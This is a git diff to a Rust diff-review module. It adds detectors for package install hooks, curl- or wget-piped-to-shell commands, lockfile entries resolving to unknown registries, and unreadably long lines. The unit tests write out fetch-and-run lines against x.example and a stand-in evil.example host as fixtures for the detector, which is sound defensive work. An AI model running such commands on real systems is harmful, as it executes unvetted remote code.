@@ -7,6 +7,7 @@ use std::sync::LazyLock;
 
 use regex::Regex;
 
+use crate::phrase::{Language, risk as words};
 use crate::text;
 
 /// Most remarks; a reviewer reads a list, not a log.
@@ -58,25 +59,63 @@ static ALWAYS_TRUE: LazyLock<Regex> = LazyLock::new(|| {
         .expect("the pattern is valid")
 });
 
+static INSTALL: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"^\s*"(?:(?:pre|post)?install|prepare|prepublish)"\s*:|\bcmdclass\s*=|^\s*(?:post|pre)_install\b"#)
+        .expect("the pattern is valid")
+});
+
+static FETCHED: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"\b(?:curl|wget)\b[^|;&]*\|\s*(?:sudo\s+)?(?:\S*/)?(?:ba|z|da|k)?sh\b|\b(?:ba|z|da)?sh\s+(?:-c\s+)?[\x22']?(?:<\(|\$\()\s*(?:curl|wget)\b|\biex\b.*\b(?:iwr|irm|Invoke-WebRequest)\b|\b(?:iwr|irm)\b.*\|\s*iex\b")
+        .expect("the pattern is valid")
+});
+
+static HOST: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?i)\b(?:https?|git|ssh)(?:\+\w+)?://(?:[^/\s@\x22']*@)?([a-z0-9.-]+)").expect("the pattern is valid")
+});
+
+/// Where packages come from by default.
+const REGISTRIES: [&str; 12] = [
+    "registry.npmjs.org",
+    "registry.yarnpkg.com",
+    "npm.pkg.github.com",
+    "github.com",
+    "codeload.github.com",
+    "static.crates.io",
+    "index.crates.io",
+    "crates.io",
+    "pypi.org",
+    "files.pythonhosted.org",
+    "rubygems.org",
+    "repo.packagist.org",
+];
+
+/// A line of more bytes than this is read by nobody.
+const LONGEST_READ_LINE: usize = 5_000;
+
 /// One file of a difference.
 #[derive(Debug, Default)]
 struct File<'a> {
     path: &'a str,
+    is_new: bool,
     is_deleted: bool,
     added: Vec<&'a str>,
     removed: Vec<&'a str>,
+    kept: Vec<&'a str>,
 }
 
 /// What a reviewer should know of a difference in git's format. Lines and paths are shown as code.
-pub fn risks_of(diff: &str) -> Vec<String> {
-    let mut risks: Vec<String> = files(diff).iter().flat_map(risks_of_file).collect();
+pub fn risks_of(language: Language, diff: &str) -> Vec<String> {
+    let mut risks: Vec<String> = files(diff)
+        .iter()
+        .flat_map(|file| risks_of_file(language, file))
+        .collect();
     if risks.len() > MAX_RISKS {
         let more = risks.len() - MAX_RISKS;
         risks.truncate(MAX_RISKS);
-        risks.push(format!("and {more} more remarks like these"));
+        risks.push(crate::phrase::pull::more_remarks(language, more));
     }
     if diff.trim_end().ends_with(CUT) {
-        risks.push("The change is too long to be looked through for weakened tests".to_owned());
+        risks.push(words::too_long(language).to_owned());
     }
     risks
 }
@@ -99,16 +138,19 @@ fn files(diff: &str) -> Vec<File<'_>> {
             is_head = false;
         } else if is_head {
             file.is_deleted |= line.starts_with("deleted file mode");
+            file.is_new |= line.starts_with("new file mode");
         } else if let Some(added) = line.strip_prefix('+') {
             file.added.push(added);
         } else if let Some(removed) = line.strip_prefix('-') {
             file.removed.push(removed);
+        } else if let Some(kept) = line.strip_prefix(' ') {
+            file.kept.push(kept);
         }
     }
     files
 }
 
-fn risks_of_file(file: &File<'_>) -> Vec<String> {
+fn risks_of_file(language: Language, file: &File<'_>) -> Vec<String> {
     let path = code(file.path);
     let mut risks = Vec::new();
     let is_test = is_test(file.path);
@@ -118,51 +160,88 @@ fn risks_of_file(file: &File<'_>) -> Vec<String> {
         before.saturating_sub(after)
     };
     if is_automation(file.path) {
-        risks.push(format!("Automation was changed: {path}"));
+        risks.push(words::automation(language, &path));
     }
     if file.is_deleted {
         return risks; // that a test was deleted is said of the list of files
     }
+    risks.extend(from_elsewhere(language, file));
     let skipped = file.added.iter().find(|line| SKIP.is_match(line) && !is_remark(line));
     let may_hold_tests = is_test || !is_prose(file.path);
     if let Some(line) = skipped.filter(|_| may_hold_tests) {
-        risks.push(format!(
-            "A test is skipped or narrowed in {path}: {}",
-            code(line.trim())
-        ));
+        risks.push(words::skipped(language, &path, &code(line.trim())));
     }
     if let Some(line) = file.added.iter().find(|line| SWALLOWED.is_match(line))
         && (is_test || is_script(file.path))
     {
-        risks.push(format!("A failure may be swallowed in {path}: {}", code(line.trim())));
+        risks.push(words::swallowed(language, &path, &code(line.trim())));
     }
     let tests = fewer(&TEST);
     if tests > 0 {
-        risks.push(format!("{path} has {} fewer than before", in_words(tests, "test")));
+        risks.push(words::fewer_tests(language, &path, tests));
     }
     if is_test || count(&file.removed, &TEST) > 0 {
         let assertions = fewer(&ASSERTION);
         if assertions > 0 && tests == 0 {
-            risks.push(format!(
-                "{path} has {} fewer than before",
-                in_words(assertions, "assertion")
-            ));
+            risks.push(words::fewer_assertions(language, &path, assertions));
         } else if tests == 0 && fewer(&EXACT) > 0 {
-            risks.push(format!("An exact comparison became a looser one in {path}"));
+            risks.push(words::looser(language, &path));
         }
         if let Some(line) = file.added.iter().find(|line| ALWAYS_TRUE.is_match(line)) {
-            risks.push(format!("An assertion in {path} is always true: {}", code(line.trim())));
+            risks.push(words::always_true(language, &path, &code(line.trim())));
         }
     }
     risks
 }
 
-fn in_words(count: usize, what: &str) -> String {
-    if count == 1 {
-        format!("1 {what}")
-    } else {
-        format!("{count} {what}s")
+/// What comes from the network or runs by itself, and what cannot be read.
+fn from_elsewhere(language: Language, file: &File<'_>) -> Vec<String> {
+    let path = code(file.path);
+    let mut risks = Vec::new();
+    if let Some(line) = file.added.iter().find(|line| INSTALL.is_match(line))
+        && is_manifest(file.path)
+    {
+        risks.push(words::install_script(language, &path, &code(line.trim())));
     }
+    let fetched = file.added.iter().find(|line| FETCHED.is_match(line));
+    if let Some(line) = fetched.filter(|_| !is_prose(file.path)) {
+        risks.push(words::fetched_and_run(language, &path, &code(line.trim())));
+    }
+    if is_lockfile(file.path) {
+        let hosts = |lines: &[&str]| -> Vec<String> {
+            let found = lines.iter().flat_map(|line| HOST.captures_iter(line));
+            found.map(|found| found[1].to_lowercase()).collect()
+        };
+        let before: Vec<String> = [hosts(&file.removed), hosts(&file.kept)].concat();
+        let is_new = |host: &String| !before.contains(host) && !REGISTRIES.contains(&host.as_str());
+        if let Some(host) = hosts(&file.added).into_iter().find(is_new) {
+            risks.push(words::other_registry(language, &path, &code(&host)));
+        }
+    }
+    // Of a new file its size tells, which the difference may not show whole.
+    let longest = file.added.iter().map(|line| line.len()).max().unwrap_or_default();
+    if longest > LONGEST_READ_LINE && !file.is_new {
+        risks.push(words::minified(language, &path, &text::bytes_in_words(longest as u64)));
+    }
+    risks
+}
+
+/// A file that package managers read.
+fn is_manifest(path: &str) -> bool {
+    let name = path.rsplit('/').next().unwrap_or_default();
+    matches!(name, "package.json" | "composer.json" | "setup.py" | "PKGBUILD") || name.ends_with(".install")
+}
+
+/// A file that pins the versions of dependencies.
+pub(super) fn is_lockfile(path: &str) -> bool {
+    let lower = path.to_lowercase();
+    let name = lower.rsplit('/').next().unwrap_or_default();
+    name.ends_with(".lock")
+        || name.ends_with(".lockb")
+        || matches!(
+            name,
+            "package-lock.json" | "npm-shrinkwrap.json" | "pnpm-lock.yaml" | "go.sum" | "packages.lock.json"
+        )
 }
 
 /// Whether a path is a test's.
@@ -229,7 +308,7 @@ mod tests {
 
     #[track_caller]
     fn check(path: &str, lines: &str, expected: &[&str]) {
-        let risks = risks_of(&diff(path, lines));
+        let risks = risks_of(Language::English, &diff(path, lines));
         assert_eq!(risks.len(), expected.len(), "{lines}: {risks:#?}");
         for (risk, words) in risks.iter().zip(expected) {
             assert!(risk.contains(words), "{lines}: {risk}");
@@ -309,13 +388,54 @@ mod tests {
     }
 
     #[test]
+    fn what_runs_by_itself_is_named() {
+        check(
+            "package.json",
+            "+    \"postinstall\": \"node x.js\",",
+            &["at installation"],
+        );
+        check("package.json", "-    \"postinstall\": \"node x.js\",", &[]);
+        check("package.json", "+    \"test\": \"node x.js\",", &[]);
+        check("setup.py", "+    cmdclass={'install': X},", &["at installation"]);
+        let unseen = ["run unseen"];
+        check("get.sh", "+curl -fsSL https://x.example/i.sh | sudo bash", &unseen);
+        check("Dockerfile", "+RUN wget -qO- https://x.example | sh", &unseen);
+        check("get.sh", "+bash <(curl -s https://x.example)", &unseen);
+        check("get.sh", "+sh -c \"$(curl -fsSL https://x.example)\"", &unseen);
+        check("get.sh", "+curl -o a.tgz https://x.example/a.tgz", &[]);
+        check("README.md", "+    curl https://x.example | sh", &[]);
+    }
+
+    #[test]
+    fn another_registry_is_named() {
+        let from = |host: &str| format!("+      \"resolved\": \"https://{host}/a/-/a-1.tgz\",");
+        check("package-lock.json", &from("registry.npmjs.org"), &[]);
+        check("package-lock.json", &from("evil.example"), &["`evil.example`"]);
+        check(
+            "yarn.lock",
+            &format!(" x \"https://npm.corp.example/b\"\n{}", from("npm.corp.example")),
+            &[],
+        );
+        check("src/a.rs", &from("evil.example"), &[]);
+    }
+
+    #[test]
+    fn o06_lines_that_nobody_reads_are_named() {
+        check("a.js", &format!("+{}", "x".repeat(6_000)), &["too long to be reviewed"]);
+        check("a.js", &format!("+{}", "x".repeat(900)), &[]);
+    }
+
+    #[test]
     fn hostile_and_long_differences_are_bounded() {
         let wide = format!("+#[ignore] {}`|\n", "x".repeat(10_000));
         let many: String = (0..50).map(|at| diff(&format!("tests/{at}.rs"), &wide)).collect();
-        let risks = risks_of(&format!("{many}\n{CUT}"));
+        let risks = risks_of(Language::English, &format!("{many}\n{CUT}"));
         assert_eq!(risks.len(), MAX_RISKS + 2);
         assert!(risks.iter().all(|risk| risk.chars().count() < 1_000), "{risks:#?}");
-        assert_eq!(risks_of(""), Vec::<String>::new());
-        assert_eq!(risks_of("+#[ignore]\n@@\ndiff --git"), Vec::<String>::new());
+        assert_eq!(risks_of(Language::English, ""), Vec::<String>::new());
+        assert_eq!(
+            risks_of(Language::English, "+#[ignore]\n@@\ndiff --git"),
+            Vec::<String>::new()
+        );
     }
 }
